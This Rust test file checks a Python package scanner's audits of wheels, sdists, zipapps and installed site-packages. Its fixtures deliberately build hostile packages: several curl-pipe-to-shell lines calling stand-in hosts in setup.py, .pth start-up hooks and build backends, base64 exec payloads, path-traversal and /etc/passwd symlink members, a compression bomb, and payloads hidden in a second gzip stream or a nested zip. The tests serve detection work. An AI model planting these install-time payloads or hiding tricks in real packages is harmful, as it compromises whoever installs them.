//! Package audits: archives read in memory, installed distributions, baselines, shards.
#![allow(clippy::unwrap_used, reason = "archive builders in tests fail loudly on any I/O error")]

use std::io::Write;
use std::path::Path;

use crate::common::{pysbx, repo, stderr, write};

fn make_wheel(path: &Path, members: &[(&str, &[u8])]) {
    let file = std::fs::File::create(path).unwrap();
    let mut zip = zip::ZipWriter::new(file);
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in members {
        zip.start_file(*name, opts).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap();
}

/// The bytes of a tarball: links first, then regular members (names written raw: the tar
/// crate refuses to create `..` names, but a hostile sdist has them).
fn tarball(regular: &[(&str, &[u8])], symlinks: &[(&str, &str)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, target) in symlinks {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::Symlink);
        header.set_size(0);
        builder.append_link(&mut header, name, target).unwrap();
    }
    for (name, data) in regular {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_entry_type(tar::EntryType::Regular);
        let raw = &mut header.as_old_mut().name;
        raw[..name.len()].copy_from_slice(name.as_bytes());
        header.set_cksum();
        builder.append(&header, *data).unwrap();
    }
    builder.into_inner().unwrap()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(bytes).unwrap();
    gz.finish().unwrap()
}

fn make_sdist(path: &Path, regular: &[(&str, &[u8])], symlinks: &[(&str, &str)]) {
    std::fs::write(path, gzip(&tarball(regular, symlinks))).unwrap();
}

fn json(out: &std::process::Output) -> serde_json::Value {
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stdout)))
}

/// The paths and lines of a JSON report's findings of the rule `name`, in the report's order.
fn lines_with<'d>(doc: &'d serde_json::Value, name: &str) -> Vec<(&'d str, u64)> {
    doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["name"] == name)
        .map(|f| (f["path"].as_str().unwrap(), f["line"].as_u64().unwrap()))
        .collect()
}

/// The paths of a JSON report's findings of the rule `name`, sorted.
fn paths_with<'d>(doc: &'d serde_json::Value, name: &str) -> Vec<&'d str> {
    let mut paths: Vec<&str> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["name"] == name)
        .filter_map(|f| f["path"].as_str())
        .collect();
    paths.sort_unstable();
    paths
}

#[test]
fn wheel_members_are_scanned_in_memory_with_archive_paths() {
    let dir = repo();
    make_wheel(
        &dir.path().join("evil-1.0-py3-none-any.whl"),
        &[
            ("evil/__init__.py", b"import os\nos.system('id')\n"),
            ("evil-1.0.dist-info/RECORD", b"evil/__init__.py,,\n"),
            ("evil.pth", b"/some/path\nimport os; os.system('id')\n"),
        ],
    );
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "evil-1.0-py3-none-any.whl"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json(&out);
    let findings = doc["findings"].as_array().unwrap();
    assert!(
        findings.iter().any(|f| f["path"] == "evil-1.0-py3-none-any.whl!/evil/__init__.py"
            && f["rule_id"] == "PSB215"),
        "{doc}"
    );
    // The .pth line that Python executes at start-up is scanned at its own line number.
    assert!(
        findings
            .iter()
            .any(|f| f["path"] == "evil-1.0-py3-none-any.whl!/evil.pth" && f["line"] == 2),
        "{doc}"
    );
    // Nothing was extracted.
    assert!(!dir.path().join("evil").exists());
    assert_eq!(doc["stats"]["audit_mode"], true, "archives are audited");
}

#[test]
fn archive_sarif_locations_are_valid_uris() {
    let dir = repo();
    make_wheel(&dir.path().join("p-1.0-py3-none-any.whl"), &[("p/m.py", b"eval(x)\n")]);
    let out = pysbx(dir.path())
        .args(["scan", "--format", "sarif", "p-1.0-py3-none-any.whl"])
        .output()
        .unwrap();
    let doc = json(&out);
    let uri = doc["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]
        ["uri"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(uri.contains("p-1.0-py3-none-any.whl"), "{uri}");
    assert!(!uri.contains(' '), "{uri}");
}

#[test]
fn sdist_dotdot_and_symlink_members_are_reported_not_followed() {
    let dir = repo();
    let sdist = dir.path().join("bad-1.0.tar.gz");
    make_sdist(
        &sdist,
        &[
            ("bad-1.0/setup.py", b"import os\nos.system('x')\n"),
            ("bad-1.0/../../escape.py", b"x = 1\n"),
        ],
        &[("bad-1.0/link.py", "/etc/passwd")],
    );
    let out =
        pysbx(dir.path()).args(["scan", "--format", "json", "bad-1.0.tar.gz"]).output().unwrap();
    let doc = json(&out);
    let errors = doc["errors"].as_array().unwrap();
    assert!(errors.iter().any(|e| e["path"] == "bad-1.0.tar.gz!/bad-1.0/link.py"), "{doc}");
    assert!(errors.iter().any(|e| e["path"].as_str().unwrap().contains("escape.py")), "{doc}");
    assert!(
        doc["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["path"] == "bad-1.0.tar.gz!/bad-1.0/setup.py"),
        "{doc}"
    );
    assert!(
        !dir.path().join("escape.py").exists()
            && !dir.path().parent().unwrap().join("escape.py").exists()
    );
}

/// Device and FIFO members under names the scan reads are reported, as links are: there is
/// nothing to read in them, and no installer makes them.
#[test]
fn sdist_device_and_fifo_members_are_reported() {
    let dir = repo();
    let mut builder = tar::Builder::new(Vec::new());
    for (name, kind) in [
        ("odd-1.0/pkg/fifo.py", tar::EntryType::Fifo),
        ("odd-1.0/pkg/dev.py", tar::EntryType::Char),
        ("odd-1.0/pkg/blk.py", tar::EntryType::Block),
        ("odd-1.0/NOTES", tar::EntryType::Fifo),
    ] {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(kind);
        header.set_size(0);
        header.set_mode(0o644);
        builder.append_data(&mut header, name, std::io::empty()).unwrap();
    }
    let mut header = tar::Header::new_gnu();
    header.set_size(6);
    header.set_mode(0o644);
    builder.append_data(&mut header, "odd-1.0/pkg/ok.py", &b"x = 1\n"[..]).unwrap();
    std::fs::write(dir.path().join("odd-1.0.tar.gz"), gzip(&builder.into_inner().unwrap()))
        .unwrap();
    let out =
        pysbx(dir.path()).args(["scan", "--format", "json", "odd-1.0.tar.gz"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json(&out);
    let mut reported: Vec<&str> = doc["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["message"].as_str().is_some_and(|m| m.contains("device or FIFO member")))
        .filter_map(|e| e["path"].as_str())
        .collect();
    reported.sort_unstable();
    assert_eq!(
        reported,
        [
            "odd-1.0.tar.gz!/odd-1.0/pkg/blk.py",
            "odd-1.0.tar.gz!/odd-1.0/pkg/dev.py",
            "odd-1.0.tar.gz!/odd-1.0/pkg/fifo.py"
        ],
        "{doc}"
    );
}

#[test]
fn compression_bomb_is_abandoned_with_an_error() {
    let dir = repo();
    // Three members of 20 MiB that compress to a few KiB each: past the ratio limit at once.
    let blank = vec![b' '; 20 << 20];
    make_wheel(
        &dir.path().join("bomb-1.0-py3-none-any.whl"),
        &[("a.py", &blank), ("b.py", &blank), ("c.py", &blank)],
    );
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "bomb-1.0-py3-none-any.whl"])
        .output()
        .unwrap();
    let doc = json(&out);
    assert!(
        doc["errors"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["message"].as_str().unwrap().contains("compression")),
        "{doc}"
    );
}

#[test]
fn what_could_not_be_scanned_counts_for_its_distribution() {
    let dir = repo();
    // A wheel with a member that parses, one that does not and one that escapes with `..`;
    // a wheel too damaged to open; a clean wheel.
    make_wheel(
        &dir.path().join("odd-1.0-py3-none-any.whl"),
        &[("odd/ok.py", b"x = 1\n"), ("odd/bad.py", b"def (:\n"), ("../escape.py", b"y = 2\n")],
    );
    write(dir.path(), "broken-1.0-py3-none-any.whl", b"PK\x03\x04 not a zip");
    make_wheel(&dir.path().join("calm-1.0-py3-none-any.whl"), &[("calm/a.py", b"z = 3\n")]);
    let wheels =
        ["odd-1.0-py3-none-any.whl", "broken-1.0-py3-none-any.whl", "calm-1.0-py3-none-any.whl"];
    let out = pysbx(dir.path()).args(["scan", "--format", "json"]).args(wheels).output().unwrap();
    let doc = json(&out);
    let dists = doc["distributions"].as_array().unwrap_or_else(|| panic!("{doc}"));
    let row = |name: &str| {
        let d = dists.iter().find(|d| d["name"] == name).unwrap_or_else(|| panic!("{doc}"));
        (d["files"].as_u64().unwrap(), d["errors"].as_u64().unwrap())
    };
    // Scanned: the member that parses and the one that does not (as `files_scanned` counts).
    assert_eq!(row("odd-1.0-py3-none-any.whl"), (2, 2), "{doc}");
    assert_eq!(row("broken-1.0-py3-none-any.whl"), (0, 1), "{doc}");
    assert_eq!(row("calm-1.0-py3-none-any.whl"), (1, 0), "{doc}");
    let total: u64 = dists.iter().map(|d| d["files"].as_u64().unwrap()).sum();
    assert_eq!(total, doc["stats"]["files_scanned"].as_u64().unwrap(), "{doc}");
    // With no finding anywhere, the one with the most unscanned parts ranks first.
    let names: Vec<&str> = dists.iter().map(|d| d["name"].as_str().unwrap()).collect();
    assert_eq!(names[0], "odd-1.0-py3-none-any.whl", "{names:?}");
    // The text table has the column, and SARIF the same summary.
    let out = pysbx(dir.path()).arg("scan").args(wheels).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let table = text.split("distributions by risk:").nth(1).unwrap_or_else(|| panic!("{text}"));
    let header: Vec<&str> = table.lines().nth(1).unwrap().split_whitespace().collect();
    let first: Vec<&str> = table.lines().nth(2).unwrap().split_whitespace().collect();
    let errors_at = header.iter().position(|h| *h == "errors").unwrap_or_else(|| panic!("{table}"));
    assert_eq!((first[0], first[errors_at]), ("odd-1.0-py3-none-any.whl", "2"), "{table}");
    let out = pysbx(dir.path()).args(["scan", "--format", "sarif"]).args(wheels).output().unwrap();
    let sarif = json(&out);
    assert_eq!(sarif["runs"][0]["properties"]["distributions"], doc["distributions"], "{sarif}");
}

#[test]
fn oversized_file_is_reported_not_skipped_silently() {
    let dir = repo();
    write(dir.path(), "big.py", vec![b'#'; 2 << 20]);
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "--max-file-size", "1", "big.py"])
        .output()
        .unwrap();
    let doc = json(&out);
    assert_eq!(doc["errors"][0]["kind"], "too-large", "{doc}");
    assert_eq!(out.status.code(), Some(1));
    // An archive member is held to the same limit.
    let big = vec![b'#'; 2 << 20];
    make_wheel(&dir.path().join("big-1.0-py3-none-any.whl"), &[("big/__init__.py", &big)]);
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "--max-file-size", "1", "big-1.0-py3-none-any.whl"])
        .output()
        .unwrap();
    let doc = json(&out);
    let error = &doc["errors"][0];
    assert_eq!(error["path"], "big-1.0-py3-none-any.whl!/big/__init__.py", "{doc}");
    assert!(error["message"].as_str().unwrap().contains("larger than 1 MiB"), "{doc}");
    assert_eq!(out.status.code(), Some(1));
}

#[test]
fn baseline_hides_known_findings_and_reports_new_ones() {
    let dir = repo();
    write(dir.path(), "a.py", "import os\nos.system('/bin/a')\n");
    let out =
        pysbx(dir.path()).args(["scan", "--write-baseline", "base.json", "a.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    // Unchanged.
    let out = pysbx(dir.path()).args(["scan", "--baseline", "base.json", "a.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    // Moved down by inserted lines: still known.
    write(dir.path(), "a.py", "import os\n\n\n# moved\nos.system('/bin/a')\n");
    let out = pysbx(dir.path()).args(["scan", "--baseline", "base.json", "a.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    // Duplicated: the second copy is new.
    write(dir.path(), "a.py", "import os\nos.system('/bin/a')\nos.system('/bin/a')\n");
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "--baseline", "base.json", "a.py"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let doc = json(&out);
    assert_eq!(doc["findings"].as_array().unwrap().len(), 1, "{doc}");
    // Fixed: nothing left.
    write(dir.path(), "a.py", "print('fixed')\n");
    let out = pysbx(dir.path()).args(["scan", "--baseline", "base.json", "a.py"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0));
}

#[test]
fn shards_partition_the_input_and_merge_back() {
    let dir = repo();
    for i in 0..30 {
        write(dir.path(), &format!("m{i}.py"), "eval(x)\n");
    }
    let mut total = 0;
    for i in 1..=3 {
        let out = pysbx(dir.path())
            .args([
                "scan",
                "--format",
                "json",
                "-o",
                &format!("s{i}.json"),
                "--shard",
                &format!("{i}/3"),
                ".",
            ])
            .output()
            .unwrap();
        assert_ne!(out.status.code(), Some(2), "{}", stderr(&out));
        let doc: serde_json::Value =
            serde_json::from_slice(&std::fs::read(dir.path().join(format!("s{i}.json"))).unwrap())
                .unwrap();
        total += doc["findings"].as_array().unwrap().len();
    }
    assert_eq!(total, 30, "every file in exactly one shard");
    let out = pysbx(dir.path())
        .args(["merge", "s1.json", "s2.json", "s3.json", "s1.json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let merged = json(&out);
    assert_eq!(merged["findings"].as_array().unwrap().len(), 30, "duplicates removed");
    let out = pysbx(dir.path()).args(["scan", "--shard", "4/3", "."]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn site_packages_summary_ranks_the_malicious_distribution_first() {
    let dir = repo();
    let site = "venv/lib/python3.11/site-packages";
    // A benign library with one audit-level finding.
    write(dir.path(), &format!("{site}/calm/__init__.py"), "import subprocess\n");
    write(
        dir.path(),
        &format!("{site}/calm-2.0.dist-info/RECORD"),
        "calm/__init__.py,,\ncalm-2.0.dist-info/RECORD,,\n",
    );
    // A library with a real but ordinary capability.
    write(
        dir.path(),
        &format!("{site}/fetcher/net.py"),
        "import urllib.request\nurllib.request.urlopen(u)\n",
    );
    write(dir.path(), &format!("{site}/fetcher-1.1.dist-info/RECORD"), "fetcher/net.py,,\n");
    // The malicious one: a start-up hook and a decoded payload.
    write(
        dir.path(),
        &format!("{site}/evil_init.pth"),
        "import os; os.system('curl http://198.18.0.9/x | sh')\n",
    );
    write(
        dir.path(),
        &format!("{site}/evilpkg/__init__.py"),
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    );
    write(
        dir.path(),
        &format!("{site}/evilpkg-0.0.1.dist-info/RECORD"),
        "evilpkg/__init__.py,,\nevil_init.pth,,\n",
    );
    let out = pysbx(dir.path()).args(["scan", "--format", "json", site]).output().unwrap();
    let doc = json(&out);
    assert_eq!(doc["stats"]["audit_mode"], true);
    let dists = doc["distributions"].as_array().unwrap_or_else(|| panic!("{doc}"));
    let names: Vec<&str> = dists.iter().map(|d| d["name"].as_str().unwrap()).collect();
    assert_eq!(names[0], "evilpkg 0.0.1", "{names:?}");
    assert!(names.contains(&"calm 2.0") && names.contains(&"fetcher 1.1"), "{names:?}");
    assert!(dists[0]["install_time"].as_u64().unwrap() >= 1, "{doc}");
    // The same ranking in the text summary.
    let out = pysbx(dir.path()).args(["scan", site]).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let table = text.split("distributions by risk:").nth(1).unwrap_or_else(|| panic!("{text}"));
    let first_row = table.lines().nth(2).unwrap();
    assert!(first_row.trim_start().starts_with("evilpkg 0.0.1"), "{table}");
    // And as SARIF run properties.
    let out = pysbx(dir.path()).args(["scan", "--format", "sarif", site]).output().unwrap();
    let sarif = json(&out);
    assert_eq!(sarif["runs"][0]["properties"]["distributions"][0]["name"], "evilpkg 0.0.1");
}

#[test]
fn a_distribution_whose_metadata_is_a_device_or_a_fifo_does_not_stall_the_audit() {
    let dir = repo();
    let site = "site-packages";
    write(dir.path(), &format!("{site}/zeroed/__init__.py"), "import os\nos.system(cmd)\n");
    std::fs::create_dir_all(dir.path().join(format!("{site}/zeroed-1.0.dist-info"))).unwrap();
    // Read whole, an endless RECORD would fill memory; a FIFO would wait for a writer.
    std::os::unix::fs::symlink(
        "/dev/zero",
        dir.path().join(format!("{site}/zeroed-1.0.dist-info/RECORD")),
    )
    .unwrap();
    write(dir.path(), &format!("{site}/piped/__init__.py"), "x = 1\n");
    std::fs::create_dir_all(dir.path().join(format!("{site}/piped-1.0.egg-info"))).unwrap();
    let fifo = dir.path().join(format!("{site}/piped-1.0.egg-info/top_level.txt"));
    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", site])
        .timeout(std::time::Duration::from_secs(30))
        .output()
        .expect("the audit ends");
    let doc = json(&out);
    // The findings are all there, counted among the files no distribution lists.
    assert_eq!(doc["stats"]["files_scanned"], 2, "{doc}");
    let rules: Vec<&str> =
        doc["findings"].as_array().unwrap().iter().filter_map(|f| f["rule_id"].as_str()).collect();
    assert!(rules.contains(&"PSB201"), "{doc}");
}

/// A tarball of `members`, in two gzip streams cut mid-archive: Python's `tarfile` (and so pip)
/// reads every stream of a gzip file.
fn two_stream_sdist(path: &Path, members: &[(&str, &[u8])]) {
    let whole = tarball(members, &[]);
    let (first, second) = whole.split_at(1024);
    std::fs::write(path, [gzip(first), gzip(second)].concat()).unwrap();
}

#[test]
fn members_hidden_past_the_first_gzip_stream_are_scanned() {
    let dir = repo();
    two_stream_sdist(
        &dir.path().join("split-1.0.tar.gz"),
        &[
            ("split-1.0/README", b"hello\n"),
            ("split-1.0/setup.py", b"import os\nos.system('curl http://x.invalid/a | sh')\n"),
        ],
    );
    let out =
        pysbx(dir.path()).args(["scan", "--format", "json", "split-1.0.tar.gz"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json(&out);
    assert!(
        paths_with(&doc, "download-pipe-to-shell")
            .contains(&"split-1.0.tar.gz!/split-1.0/setup.py"),
        "{doc}"
    );
}

#[test]
fn compiled_python_without_source_is_reported_in_trees_and_archives() {
    let dir = repo();
    make_wheel(
        &dir.path().join("dark-1.0-py3-none-any.whl"),
        &[("dark/__init__.py", b"from . import core\n"), ("dark/core.pyc", b"\x00\x00")],
    );
    write(dir.path(), "site-packages/dark/__init__.py", "from . import core\n");
    std::fs::write(dir.path().join("site-packages/dark/core.pyc"), b"\x00\x00").unwrap();
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "dark-1.0-py3-none-any.whl", "site-packages"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json(&out);
    let errors = doc["errors"].as_array().unwrap();
    let named = |path: &str| {
        errors.iter().any(|e| {
            e["path"] == path && e["message"].as_str().unwrap().contains("without its source")
        })
    };
    assert!(named("dark-1.0-py3-none-any.whl!/dark/core.pyc"), "{doc}");
    assert!(named("site-packages/dark/core.pyc"), "{doc}");
}

#[test]
fn zip_applications_are_scanned_inside_whatever_their_name() {
    let dir = repo();
    // `python -m zipapp` writes a shebang line, then a zip whose `__main__.py` Python runs.
    let wheel = dir.path().join("inner.zip");
    make_wheel(&wheel, &[("__main__.py", b"import os\nos.system('curl http://x.invalid | sh')\n")]);
    let mut zipapp = b"#!/usr/bin/env python3\n".to_vec();
    zipapp.extend(std::fs::read(&wheel).unwrap());
    std::fs::remove_file(&wheel).unwrap();
    std::fs::create_dir_all(dir.path().join("tools")).unwrap();
    std::fs::write(dir.path().join("tools/deploy"), &zipapp).unwrap();
    std::fs::write(dir.path().join("tools/app.pyz"), &zipapp).unwrap();
    let out = pysbx(dir.path()).args(["scan", "--format", "json", "tools"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json(&out);
    for path in ["tools/app.pyz!/__main__.py", "tools/deploy!/__main__.py"] {
        assert!(paths_with(&doc, "download-pipe-to-shell").contains(&path), "{path}: {doc}");
    }
    assert!(doc["errors"].as_array().unwrap().is_empty(), "{doc}");
}

#[test]
fn a_zip_a_pth_file_puts_on_the_path_is_scanned_inside_the_wheel() {
    let dir = repo();
    let payload = dir.path().join("payload.zip");
    make_wheel(&payload, &[("hidden.py", b"import os\nos.system('curl http://x.invalid | sh')\n")]);
    let payload_bytes = std::fs::read(&payload).unwrap();
    std::fs::remove_file(&payload).unwrap();
    make_wheel(
        &dir.path().join("w-1.0-py3-none-any.whl"),
        &[("w.pth", b"hidden.zip\nimport hidden\n"), ("hidden.zip", &payload_bytes)],
    );
    let out = pysbx(dir.path())
        .args(["scan", "--format", "sarif", "w-1.0-py3-none-any.whl"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json(&out);
    let uris: Vec<&str> = doc["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str())
        .collect();
    // SARIF URIs percent-encode the `!` of archive paths.
    assert!(uris.iter().any(|u| u.ends_with("whl%21/hidden.zip%21/hidden.py")), "{uris:?}");
}

/// An in-tree backend that writes the version from git's tags asks git as `setup.py` may:
/// not `build-backend-code`, while a query with a computed word still is.
#[test]
fn an_in_tree_backend_asking_git_for_the_version_is_left_alone() {
    let dir = repo();
    let pyproject =
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n";
    for (name, body) in [
        (
            "quiet",
            "import subprocess\nv = subprocess.check_output([\"git\", \"describe\", \"--tags\"])\n\
                   w = subprocess.check_output(\"git rev-parse --short HEAD\", shell=True)\n",
        ),
        (
            "loud",
            "import os, subprocess\nv = subprocess.check_output([\"git\", \"describe\", os.environ[\"REF\"]])\n",
        ),
    ] {
        write(dir.path(), &format!("{name}/pyproject.toml"), pyproject);
        write(dir.path(), &format!("{name}/_build/backend.py"), body);
    }
    let out =
        pysbx(dir.path()).args(["scan", "--format", "json", "quiet", "loud"]).output().unwrap();
    let doc = json(&out);
    assert_eq!(paths_with(&doc, "build-backend-code"), ["loud/_build/backend.py"], "{doc}");
}

#[test]
fn an_in_tree_build_backend_is_scanned_as_install_time_code() {
    let dir = repo();
    let pyproject: &[u8] =
        b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n";
    let backend: &[u8] = b"import os\nos.system('curl http://x.invalid | sh')\n";
    write(dir.path(), "proj/pyproject.toml", std::str::from_utf8(pyproject).unwrap());
    write(dir.path(), "proj/_build/backend.py", std::str::from_utf8(backend).unwrap());
    write(dir.path(), "proj/tool.py", std::str::from_utf8(backend).unwrap());
    // In an sdist the backend comes before the `pyproject.toml` that names it.
    make_sdist(
        &dir.path().join("proj-1.0.tar.gz"),
        &[
            ("proj-1.0/_build/backend.py", backend),
            ("proj-1.0/pyproject.toml", pyproject),
            ("proj-1.0/tool.py", backend),
        ],
        &[],
    );
    // A backend from an installed package names no file of the project.
    write(
        dir.path(),
        "plain/pyproject.toml",
        "[build-system]\nbuild-backend = \"setuptools.build_meta\"\n",
    );
    write(dir.path(), "plain/setuptools/build_meta.py", std::str::from_utf8(backend).unwrap());
    let out = pysbx(dir.path())
        .args(["scan", "--format", "json", "proj", "proj-1.0.tar.gz", "plain"])
        .output()
        .unwrap();
    let doc = json(&out);
    assert_eq!(
        paths_with(&doc, "build-backend-code"),
        ["proj-1.0.tar.gz!/proj-1.0/_build/backend.py", "proj/_build/backend.py"],
        "{doc}"
    );
    // From the scan cache, a second run gives the backend's findings again, and a file with
    // the same name and bytes that is not a backend does not take them. (The runs above read
    // an sdist, which puts the scan in audit mode: no cache.)
    let cold = pysbx(dir.path()).args(["scan", "--format", "json", "proj"]).output().unwrap();
    assert_eq!(json(&cold)["stats"]["cached"], 0);
    let again = pysbx(dir.path()).args(["scan", "--format", "json", "proj"]).output().unwrap();
    let again = json(&again);
    assert_eq!(again["stats"]["cached"], 2, "{again}");
    let flagged = paths_with(&again, "build-backend-code");
    assert!(
        flagged.iter().all(|p| *p == "proj/_build/backend.py") && !flagged.is_empty(),
        "{again}"
    );
    write(dir.path(), "twin/backend.py", std::str::from_utf8(backend).unwrap());
    let twin = pysbx(dir.path()).args(["scan", "--format", "json", "twin"]).output().unwrap();
    let twin = json(&twin);
    assert!(paths_with(&twin, "build-backend-code").is_empty(), "{twin}");
    // Named alone (as pre-commit names changed files), the backend is still known as one: the
    // `pyproject.toml` above it is found.
    for args in [
        ["scan", "--format", "json", "proj/_build/backend.py"],
        ["scan", "--format", "json", "proj/_build"],
    ] {
        let out = pysbx(dir.path()).args(args).output().unwrap();
        let doc = json(&out);
        assert!(!paths_with(&doc, "build-backend-code").is_empty(), "{args:?}: {doc}");
    }
}

/// Build hooks of the project's own that its backend imports while it builds are install-time
/// code as an in-tree backend is: hatchling's custom hook (`hatch_build.py` by default, or its
/// `path`), pdm-backend's `pdm_build.py`, poetry-core's build script and a setuptools command
/// class named in `[tool.setuptools.cmdclass]`; in a directory and in an sdist. A file of the
/// same name in a project that names no such hook is not.
#[test]
fn build_hooks_of_the_project_are_scanned_as_install_time_code() {
    let dir = repo();
    let hook: &[u8] = b"import os\nos.system('curl http://x.invalid | sh')\n";
    let projects: [(&str, &str, &str); 5] = [
        (
            "hatch",
            "[build-system]\nbuild-backend = \"hatchling.build\"\n[tool.hatch.build.hooks.custom]\n",
            "hatch_build.py",
        ),
        (
            "hatchpath",
            "[build-system]\nbuild-backend = \"hatchling.build\"\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = \"tools/hook.py\"\n",
            "tools/hook.py",
        ),
        ("pdm", "[build-system]\nbuild-backend = \"pdm.backend\"\n", "pdm_build.py"),
        (
            "poetry",
            "[tool.poetry.build]\nscript = \"build.py\"\n[build-system]\nbuild-backend = \"poetry.core.masonry.api\"\n",
            "build.py",
        ),
        (
            "cmdclass",
            "[build-system]\nbuild-backend = \"setuptools.build_meta\"\n[tool.setuptools.cmdclass]\nbuild_py = \"_hooks.BuildPy\"\n",
            "_hooks.py",
        ),
    ];
    for (name, pyproject, file) in projects {
        write(dir.path(), &format!("{name}/pyproject.toml"), pyproject);
        write(dir.path(), &format!("{name}/{file}"), std::str::from_utf8(hook).unwrap());
    }
    // The same files beside a `pyproject.toml` that names no hook.
    write(
        dir.path(),
        "none/pyproject.toml",
        "[build-system]\nbuild-backend = \"hatchling.build\"\n",
    );
    for file in ["hatch_build.py", "build.py", "_hooks.py"] {
        write(dir.path(), &format!("none/{file}"), std::str::from_utf8(hook).unwrap());
    }
    make_sdist(
        &dir.path().join("hooked-1.0.tar.gz"),
        &[
            ("hooked-1.0/hatch_build.py", hook),
            ("hooked-1.0/pyproject.toml", projects[0].1.as_bytes()),
        ],
        &[],
    );
    let mut args = vec!["scan", "--format", "json", "none", "hooked-1.0.tar.gz"];
    args.extend(projects.iter().map(|p| p.0));
    let out = pysbx(dir.path()).args(&args).output().unwrap();
    let doc = json(&out);
    assert_eq!(
        paths_with(&doc, "build-backend-code"),
        [
            "cmdclass/_hooks.py",
            "hatch/hatch_build.py",
            "hatchpath/tools/hook.py",
            "hooked-1.0.tar.gz!/hooked-1.0/hatch_build.py",
            "pdm/pdm_build.py",
            "poetry/build.py",
        ],
        "{doc}"
    );
}

/// A RECORD hash field (`sha256=` and the unpadded URL-safe base64 of the digest).
fn record_hash(bytes: &[u8]) -> String {
    use base64::Engine as _;
    use sha2::Digest as _;
    let digest = sha2::Sha256::digest(bytes);
    format!("sha256={}", base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(digest))
}

/// The (path, message) of a JSON report's errors of kind `record`, sorted.
fn record_errors(doc: &serde_json::Value) -> Vec<(String, String)> {
    let mut errors: Vec<(String, String)> = doc["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "record")
        .map(|e| (e["path"].as_str().unwrap().to_string(), e["message"].to_string()))
        .collect();
    errors.sort();
    errors
}

#[test]
fn an_installed_module_changed_since_install_is_reported_and_ranked_first() {
    let dir = repo();
    let site = "venv/lib/python3.11/site-packages";
    // `victim` as installed, then rewritten by someone else's install hook: one line appended
    // that no rule objects to on its own.
    let installed = b"def get(url):\n    return url\n";
    write(
        dir.path(),
        &format!("{site}/victim/__init__.py"),
        "def get(url):\n    return url\nimport victim_patch\n",
    );
    write(dir.path(), &format!("{site}/victim/util.py"), "X = 1\n");
    write(dir.path(), &format!("{site}/victim/legacy.py"), "Y = 2\n");
    write(
        dir.path(),
        &format!("{site}/victim-1.0.dist-info/RECORD"),
        format!(
            "victim/__init__.py,{},30\nvictim/util.py,{},6\n\"victim/legacy.py\",md5=1B2M2Y8AsgTpgAmY7PhCfg,6\nvictim-1.0.dist-info/RECORD,,\n",
            record_hash(installed),
            record_hash(b"X = 1\n")
        ),
    );
    // A distribution with an install-time finding, its files as installed.
    let hook = "import os; os.system('echo hi')\n";
    write(dir.path(), &format!("{site}/noisy.pth"), hook);
    write(
        dir.path(),
        &format!("{site}/noisy-2.0.dist-info/RECORD"),
        format!("noisy.pth,{},32\n", record_hash(hook.as_bytes())),
    );
    let out = pysbx(dir.path()).args(["scan", "--format", "json", site]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let doc = json(&out);
    let errors = record_errors(&doc);
    // Only the changed file: the one that matches, and the one in a hash the wheel format
    // does not accept (md5), are not reported.
    assert_eq!(errors.len(), 1, "{errors:?}");
    let (path, message) = &errors[0];
    assert_eq!(path, &format!("{site}/victim/__init__.py"));
    assert!(message.contains("bytes differ from the RECORD of victim 1.0"), "{message}");
    assert!(message.contains(&record_hash(installed)), "{message}");
    // A distribution with a changed file ranks above one with install-time findings.
